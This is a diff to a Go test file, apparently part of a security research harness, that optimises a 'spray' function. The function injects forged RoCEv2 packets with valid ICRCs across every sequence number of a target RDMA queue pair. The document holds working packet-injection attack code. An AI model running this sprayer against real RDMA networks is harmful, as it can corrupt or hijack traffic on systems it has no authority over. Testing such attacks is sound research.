@@ -3,6 +3,7 @@
 package agent
 
 import (
+	"bytes"
 	"encoding/binary"
 	"errors"
 	"fmt"
@@ -10,6 +11,7 @@ import (
 	"net/netip"
 	"os"
 	"os/exec"
+	"slices"
 	"strings"
 	"syscall"
 	"testing"
@@ -200,8 +202,11 @@ func TestAttack_spray(t *testing.T) {
 // once a socket loses some.
 func spray(src, dst netip.Addr, qpn rdma.QPN) error {
 	const (
-		batch  = 64
-		length = 16 // of BTH and ICRC
+		batch      = 64
+		length     = 16 // of BTH and ICRC
+		psnAt      = 8  // with AckReq and the bits that are reserved, which are zero
+		crcAt      = 12
+		checkEvery = 255 * batch // multiples of 255 have any bits set
 	)
 	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
 	if err != nil {
@@ -220,16 +225,33 @@ func spray(src, dst netip.Addr, qpn rdma.QPN) error {
 		return err
 	}
 	icrc := rocev2.NewICRC(rocev2.Addresses{Src: src, SrcPort: uint16(name.(*unix.SockaddrInet4).Port), Dst: dst, DstPort: rocev2.Port})
-	to := &unix.SockaddrInet4{Addr: dst.As4(), Port: rocev2.Port}
-	var pkt rocev2.Packet
-	out := make([]byte, 0, batch*length)
-	for psn := 0; psn < 2<<24; psn += batch {
-		out = out[:0]
+	appended := func(out []byte, id, psn int) []byte {
+		pkt := rocev2.Packet{BTH: rocev2.BTH{OpCode: rocev2.SendMiddle, PKey: 0xffff, DestQP: qpn, PSN: rdma.PSN(psn)}}
+		at := len(out)
+		out = pkt.AppendHeader(out)
+		return binary.LittleEndian.AppendUint32(out, icrc.Sum(uint16(id), out[at:], nil, 0))
+	}
+	appendedBatch := func(out []byte, psn int) []byte {
 		for i := range batch {
-			pkt.BTH = rocev2.BTH{OpCode: rocev2.SendMiddle, PKey: 0xffff, DestQP: qpn, PSN: rdma.PSN((psn + i) % (1 << 24))}
-			at := len(out)
-			out = pkt.AppendHeader(out)
-			out = binary.LittleEndian.AppendUint32(out, icrc.Sum(uint16(i), out[at:], nil, 0))
+			out = appended(out, i, psn+i)
+		}
+		return out
+	}
+	to := &unix.SockaddrInet4{Addr: dst.As4(), Port: rocev2.Port}
+	first := appendedBatch(nil, 0)
+	out, one := slices.Clone(first), make([]byte, 0, length)
+	for n := 0; n < 2<<24; n += batch {
+		psn := n % (1 << 24)
+		// CRCs are linear: what the number of a batch adds to that of its first packet, it adds to all.
+		one = appended(one[:0], 0, psn)
+		added := binary.LittleEndian.Uint32(one[crcAt:]) ^ binary.LittleEndian.Uint32(first[crcAt:])
+		for i := range batch {
+			p, of := out[i*length:], first[i*length:]
+			binary.BigEndian.PutUint32(p[psnAt:], uint32(psn|i))
+			binary.LittleEndian.PutUint32(p[crcAt:], binary.LittleEndian.Uint32(of[crcAt:])^added)
+		}
+		if psn%checkEvery == 0 && !bytes.Equal(out, appendedBatch(nil, psn)) {
+			return fmt.Errorf("packets from %d on are not what they are to be", psn)
 		}
 		if err := unix.Sendto(fd, out, 0, to); err != nil {
 			return fmt.Errorf("send from %d on: %w", psn, err)
